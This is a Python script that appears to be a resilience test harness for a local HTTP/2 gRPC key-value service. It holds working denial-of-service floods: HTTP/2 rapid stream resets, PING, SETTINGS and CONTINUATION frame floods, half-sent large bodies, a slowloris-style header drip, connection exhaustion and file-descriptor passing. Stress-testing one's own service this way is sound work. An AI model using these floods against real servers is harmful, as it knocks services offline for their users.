"""Floods, one by name, for some seconds. usage: attacks.py NAME SOCKET METRICS_PORT SECONDS"""
import array
import os
import socket
import struct
import sys
import threading
import time

from h2 import Connection, frame

name, path, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
end = time.time() + seconds
PING = "/kvd.v1.Admin/Ping"


def drain(c):
    def run():
        try:
            while c.s.recv(1 << 16):
                pass
        except OSError:
            pass

    threading.Thread(target=run, daemon=True).start()


def on_connections(n, what):
    """Does something on n connections again and again, and connects anew when it is hung up on."""

    def run():
        while time.time() < end:
            try:
                what()
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=run, daemon=True) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 5)


def until_the_end(c, data):
    drain(c)
    while time.time() < end:
        c.s.sendall(data())


def reset(method=PING, wait=0.0):
    c = Connection(path, method)

    def data():
        if not wait:
            return b"".join(c.headers() + c.reset() for _ in range(500))
        begun = []
        for _ in range(200):
            c.s.sendall(c.headers())
            begun.append(c.last)
        time.sleep(wait)
        return b"".join(frame(3, 0, i, struct.pack(">I", 8)) for i in begun)

    until_the_end(c, data)


def tiny():
    c = Connection(path, PING)
    drain(c)
    while time.time() < end:
        c.s.sendall(b"".join(c.headers() + c.message(b"") for _ in range(100)))
        time.sleep(0.02)


def half():
    c = Connection(path, "/kvd.v1.KvCache/Append")
    drain(c)
    for _ in range(8):
        c.s.sendall(c.headers() + c.message(b"", end=False, announce=64 << 20))
    time.sleep(0.3)
    while time.time() < end:
        c.s.sendall(frame(0, 0, c.last - 2 * int(8 * time.time() % 8), bytes(16384)))
        time.sleep(0.0005)


def frames(kind, flags, payload):
    return lambda: until_the_end(Connection(path, PING), lambda: frame(kind, flags, 0, payload) * 200)


def headers_without_end():
    c = Connection(path, PING)
    drain(c)
    c.s.sendall(frame(1, 0, 1, bytes([0x83, 0x86])))
    while time.time() < end:
        c.s.sendall(frame(9, 0, 1, (b"\0\x01a\x7f\0" + b"x" * 127) * 100))


def connect(kind, where):
    held = []

    def run():
        s = socket.socket(socket.AF_UNIX, kind)
        s.settimeout(5)
        s.connect(where)
        held.append(s)
        if len(held) > 400:
            held.pop(0).close()

    return run


def descriptors():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.settimeout(5)
    s.connect(path + ".fd")
    fd = os.memfd_create("x")
    for key in range(100):
        s.sendmsg([struct.pack("<IIQ", 0x0144766B, 1, key)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd] * (key % 5)))])
    os.close(fd)


def http():
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: ")
    while time.time() < end:
        s.sendall(b"a")
        time.sleep(0.05)


ATTACKS = {
    "reset": lambda: on_connections(60, reset),
    "reset-unknown": lambda: on_connections(60, lambda: reset("/no/such")),
    "reset-late": lambda: on_connections(20, lambda: reset(PING, 0.03)),
    "tiny": lambda: on_connections(20, tiny),
    "half": lambda: on_connections(16, half),
    "pings": lambda: on_connections(10, frames(6, 0, bytes(8))),
    "settings": lambda: on_connections(10, frames(4, 0, b"")),
    "continuation": lambda: on_connections(10, headers_without_end),
    "connect": lambda: on_connections(4, connect(socket.SOCK_STREAM, path)),
    "connect-fd": lambda: on_connections(4, connect(socket.SOCK_SEQPACKET, path + ".fd")),
    "descriptors": lambda: on_connections(4, descriptors),
    "http": lambda: on_connections(100, http),
}

ATTACKS[name]()
